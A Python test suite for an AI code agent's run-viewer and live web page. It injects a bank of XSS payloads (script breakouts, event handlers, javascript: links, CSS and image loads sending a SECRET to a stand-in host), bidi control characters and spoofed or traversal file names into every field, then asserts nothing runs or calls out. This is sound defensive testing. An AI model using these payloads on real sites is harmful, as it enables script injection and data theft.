"""What a model, a tool or code wrote is text: nothing of it acts, loads or hides, wherever it stands (ui-07)."""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from codeact import CodeAgent, tool
from codeact.core.events import ReasoningDelta, TextDelta
from codeact.core.messages import Prompt, Reply, Usage
from codeact.faces.page import page
from codeact.ports import Emit
from serving.site import site

from .browser import Tab, tab

HIDDEN = "\x1b[31m\u202eevil\u2066\x07\u200b"


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """An address that no page may ask, and who asked it."""
    asked: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def attacks(there: str) -> str:
    """Everything at once."""
    return f"""</script></style></textarea><script>window.pwned = 1</script>
<img src={there}/img onerror="window.pwned = 2"><svg onload="window.pwned = 3"><iframe src="{there}/frame"></iframe>
<link rel=prefetch href={there}/prefetch><style>@import '{there}/css'; body {{ background: url({there}/bg) }}</style>
<meta http-equiv=refresh content="0;url={there}/meta"><base href={there}/><form action={there}/form><input autofocus>
<!-- <script> {HIDDEN}
![picture]({there}/p.png?q=SECRET) [link](javascript:window.pwned=4) <{there}/auto> [ref]: {there}/ref
| [cell]({there}/c) | ![p]({there}/t.png) |
|---|---|
> # `code` **bold** _[x]({there}/x "onmouseover=window.pwned=5")_"""


def run_of(attack: str) -> list[dict[str, Any]]:
    """A run with that in every place where a text can stand."""
    svg = base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script>{attack}</svg>".encode()
    ).decode()
    html = base64.b64encode(attack.encode()).decode()
    spec = {"name": attack, "signature": attack, "doc": attack, "group": attack}
    call = {"key": "k", "cell": 1, "tool": attack, "arguments": [{attack: attack, "rows": [{attack: attack}] * 2}]}
    table = f"DataFrame of 1 rows and 1 columns ({attack.splitlines()[0]}: object)\n   {attack}\n0  {attack}"
    told: list[dict[str, Any]] = [
        {"event": "RunStarted", "model": attack, "sandbox": attack, "tools": [spec], "instructions": attack}
        | {"imports": {"names": [attack]}, "network": [attack], "mounts": [{"path": attack}], "version": attack},
        {"event": "SandboxReady", "level": attack, "python": attack},
        {"event": "TaskGiven", "task": attack, "variables": [[attack, attack]], "files": [[attack, attack]]},
        {"event": "ModelAsked", "step": 1, "purpose": "plan"},
        {"event": "ModelReplied", "reply": {"text": attack, "reasoning": attack, "notes": [attack], "usage": {}}},
        {"event": "PlanMade", "step": 1, "plan": attack + " changed"},
        {"event": "ModelAsked", "step": 1},
        {"event": "ModelReplied", "reply": {"text": f"{attack}\n```python\n{attack}\n```"}, "broken": attack},
        {"event": "CodeRefused", "source": attack, "complaints": [attack]},
        {"event": "CodeStarted", "cell": 1, "source": attack, "seed": ""},
        {"event": "ApprovalAsked", **call},
        {"event": "ApprovalGiven", "key": "k", "tool": attack, "decision": "deny", "reason": attack},
        {"event": "ToolCalled", **call, "edited": [{attack: attack}]},
        {"event": "Charged", "key": "k", "model": attack, "usage": {}},
        {"event": "ToolReturned", "key": "k", "returned": {"value": [{"$dict": [[attack, {"$set": [attack]}]]}]}},
        {"event": "Connected", "connection": 1, "host": attack, "port": 1, "refused": attack},
        {"event": "UserSaid", "text": attack},
        {"event": "Noted", "text": attack},
        {"event": "CodeRan", "cell": 1, "outcome": {"ended": "done", "stdout": attack, "stderr": attack}
         | {"preview": table, "error": {"type": attack, "message": attack, "traceback": attack}, "notes": [attack]}
         | {"gone": {"why": attack}, "images": [{"data": svg, "media_type": "image/svg+xml"}, {"data": html},
                                                {"data": svg, "media_type": f"image/png\" onerror={attack}"}]}},
        {"event": "InterpreterLost", "gone": {"why": attack}},
        {"event": "BudgetEnded", "kind": "money", "why": attack},
        {"event": "Summarised", "upto": 1, "text": attack, "usage": {}},
        {"event": "Forked", "run_": attack, "say": attack},
        {"event": "ModelAsked", "step": 2},
        {"event": "ModelFailed", "type": attack, "message": attack, "partial": attack},
        {"event": "FilesCollected", "files": [{"name": f"../{attack}.html", "data": html, "media_type": "text/html"},
                                              {"name": "p.svg", "data": svg, "media_type": "image/svg+xml"}],
         "left_out": [{"name": attack, "why": attack}]},
        {"event": "TaskEnded", "stop_reason": "error", "error": attack, "last": {"value": [attack]}},
        {"event": attack},
        {"event": "toString"},
    ]  # fmt: skip
    below = [
        {"run": "below", "parent": "r", "event": "RunStarted", "model": attack, "agent": attack, "key": "k"},
        {"run": "below", "parent": "r", "event": "TaskGiven", "task": attack},
    ]
    return [{"seq": i, "at": 1.0 + i, "run": "r", **one} for i, one in enumerate([*told, *below])]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, browser: Any, elsewhere: Any) -> Iterator[Tab]:
    """A page of such a run, with all of it unfolded."""
    there, _ = elsewhere
    file: Path = tmp_path_factory.mktemp("hostile") / "run.html"
    file.write_text(page(run_of(attacks(there)), attacks(there)), encoding="utf-8")
    with tab(browser) as made:
        made.page.on("dialog", lambda dialog: made.troubles.append(dialog.message))
        made.page.goto(file.as_uri())
        made.page.locator(".ending").first.wait_for()
        for _ in range(3):  # folds are in folds
            made.page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
            made.page.evaluate("new Promise((done) => setTimeout(done, 50))")
        made.picture("hostile")
        yield made


def contents(shown: Tab, selector: str) -> list[str]:
    """What stands in these elements, also in those that are far from what is seen."""
    found: list[str] = shown.page.locator(selector).all_text_contents()
    return found


def test_ui_07_nothing_of_it_is_asked_for_or_run(attacked: Tab, elsewhere: Any) -> None:
    assert elsewhere[1] == []
    assert len(attacked.asked) == 1
    assert attacked.page.evaluate("window.pwned") is None
    assert not attacked.troubles


def test_nothing_of_it_is_an_element(attacked: Tab) -> None:
    count = "[...document.querySelectorAll('*')].map((one) => one.localName)"
    found = set(attacked.page.evaluate(count))
    assert not found & {"iframe", "link", "object", "embed", "svg", "form", "input", "base", "a", "img", "video"}
    assert attacked.page.locator("script").count() == 2 and attacked.page.locator("style").count() == 1
    assert attacked.page.evaluate("document.querySelectorAll('[onerror], [onload], [style*=url]').length") == 0


def test_all_of_it_can_be_read(attacked: Tab) -> None:
    """In each of its places, what is hidden in it too."""
    for place in (
        "h1", ".thinking .words", ".words", "pre.code", ".stdout", ".stderr", ".error", ".notes", ".call", ".value",
        ".ending .answer", ".remark", ".given dd", ".tools", ".whole", ".files .name", ".arguments",
    ):  # fmt: skip
        assert "<script>window.pwned = 1</script>" in "\n".join(contents(attacked, place)), place
    for written in ("\\x1b", "\\u202e", "\\u2066", "\\x07", "\\u200b"):
        assert written in contents(attacked, ".stdout")[0]
    shown = contents(attacked, "main")[0]
    assert not (set(HIDDEN) - set("[31mevil")) & set(shown)


def test_what_is_no_picture_is_not_drawn_as_one(attacked: Tab) -> None:
    assert attacked.page.locator("img").count() == 0
    assert contents(attacked, ".output > .remark")[:3] == ["A picture of a kind that is not shown here."] * 3


def test_a_browser_is_told_to_hold_the_page_to_it(attacked: Tab, elsewhere: Any) -> None:
    """Even a mistake of ours would be stopped: by the policy of the page."""
    tried = """async (there) => {
        const made = document.createElement("script");
        try { made.textContent = "window.pwned = 6"; document.body.append(made); } catch (error) {}
        const image = new Image();
        image.src = there + "/image";
        document.body.append(image);
        const asked = await fetch(there + "/fetch").then(() => "asked", () => "refused");
        let html = "set";
        try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); } catch (error) { html = "refused"; }
        return [asked, html, String(window.pwned)];
    }"""
    assert attacked.page.evaluate(tried, elsewhere[0]) == ["refused", "refused", "undefined"]
    assert elsewhere[1] == []


def test_entries_are_data_in_the_file(attacked: Tab) -> None:
    lines = attacked.page.locator("#entries").text_content().splitlines()
    assert [json.loads(line)["seq"] for line in lines] == list(range(len(lines)))


def test_a_text_that_is_huge_and_odd_does_not_hold_up_the_page(browser: Any, tmp_path: Path) -> None:
    """Characters that cannot be seen, also one by one, and marks without end upon one letter."""
    told: list[dict[str, Any]] = [{"event": "RunStarted"}, {"event": "TaskGiven", "task": "Huge."}]
    for step, huge in enumerate(("\0" * 100_000, "a\u202e" * 50_000, "a" + "\u0301" * 100_000), 1):
        told += [
            {"event": "ModelAsked", "step": step},
            {"event": "ModelReplied", "reply": {"text": huge, "usage": {}}},
            {"event": "CodeStarted", "cell": step, "source": huge, "seed": ""},
            {"event": "CodeRan", "cell": step, "outcome": {"ended": "done", "stdout": huge, "notes": [huge]}},
        ]
    told.append({"event": "TaskEnded", "stop_reason": "final_answer", "output": [told[3]["reply"]["text"]]})
    file = tmp_path / "run.html"
    entries = [{"seq": i, "at": 1.0 + i, "run": "r", **one} for i, one in enumerate(told)]
    file.write_text(page(entries, "huge"), encoding="utf-8")
    with tab(browser) as made:
        made.page.goto(file.as_uri())
        made.page.locator(".ending").first.wait_for()
        assert made.page.evaluate("document.querySelectorAll('*').length") < 40_000
        assert "59,960 more" in contents(made, ".notes")[0] and "40,000 more characters" in contents(made, ".notes")[0]
        assert "more marks" in contents(made, ".stdout")[2]
        assert made.page.evaluate("document.documentElement.scrollWidth") <= 1200


class Wicked:
    """A model that says it all, a few characters at a time: a tag, an entity and a fence are cut where they can be."""

    name = "wicked"

    def __init__(self, attack: str) -> None:
        self.attack = attack

    async def ask(self, prompt: Prompt, emit: Emit) -> Reply:
        cell = f"""\
import sys
attack = {self.attack!r}
print(attack)
print(attack, file=sys.stderr)
names = ['<img src=x onerror=alert(1)>.png', 'run me.html', 'p.svg', 'a\u202egnp.exe']
for name in names:
    open('outputs/' + name, 'w').write(attack)
try:
    judge(attack, rows=[{{attack: attack}}] * 2)
except Exception as error:
    print(error)
raise ValueError(attack)"""
        text = f"{self.attack}\n```python\n{cell}\n```"
        if prompt.answered:
            text = f"```python\nfinal_answer({self.attack!r})\n```"
        for at in range(0, len(text), 3):
            emit(ReasoningDelta(text[at : at + 3]))
            emit(TextDelta(text[at : at + 3]))
        return Reply(text, text, usage=Usage(100, 20))


def test_ui_07_nothing_of_it_acts_on_the_live_page_either(browser: Any, elsewhere: Any, tmp_path: Path) -> None:
    """While it streams, where somebody is asked about it, in the list, and after a reload."""
    there, asked = elsewhere
    attack = attacks(there)

    @tool
    def judge(text: str, rows: list[object]) -> str:
        """Judge a text."""
        raise RuntimeError(text)

    agent = CodeAgent(
        model=Wicked(attack), tools=[judge], approve=["judge"], name="wicked", description=attack,
        instructions=attack, journal=tmp_path / "runs.db",
    )  # fmt: skip
    before = len(asked)
    with site(agent) as up, tab(browser) as made:
        made.page.on("dialog", lambda dialog: made.troubles.append(dialog.message))
        made.page.goto(f"{up.url}/#token={up.token}")
        made.page.get_by_label("task", exact=True).fill(attack)
        made.page.get_by_role("button", name="Begin").click()
        question = made.page.locator(".question")
        question.wait_for()
        assert "\\u202e" in question.inner_text()  # what cannot be seen in an argument is told
        made.picture("hostile-live")
        question.get_by_role("button", name="Allow", exact=True).click()
        made.page.locator(".ending.good").wait_for()
        made.page.reload()
        made.page.locator(".ending.good").wait_for()
        made.page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
        made.page.evaluate("new Promise((done) => setTimeout(done, 50))")
        assert all(address.startswith(up.url) for address in made.asked)
        assert asked[before:] == [] and not made.troubles
        assert made.page.evaluate("window.pwned") is None
        found = set(made.page.evaluate("[...document.querySelectorAll('main *')].map((one) => one.localName)"))
        assert not found & {"iframe", "link", "object", "embed", "svg", "base", "a", "img", "video", "script", "style"}
        for place in (".words", "pre.code", ".stdout", ".stderr", ".error", ".call", ".ending .answer", ".whole"):
            assert "<script>window.pwned = 1</script>" in "\n".join(contents(made, place)), place
        assert not (set(HIDDEN) - set("[31mevil")) & set(contents(made, "body")[0] + made.page.title())
        assert made.page.evaluate("document.documentElement.scrollWidth") <= 1200
        with made.page.expect_download() as saved:
            made.page.locator(".file", has_text="run me.html").get_by_role("button").click()
        assert saved.value.suggested_filename == "run me.html"
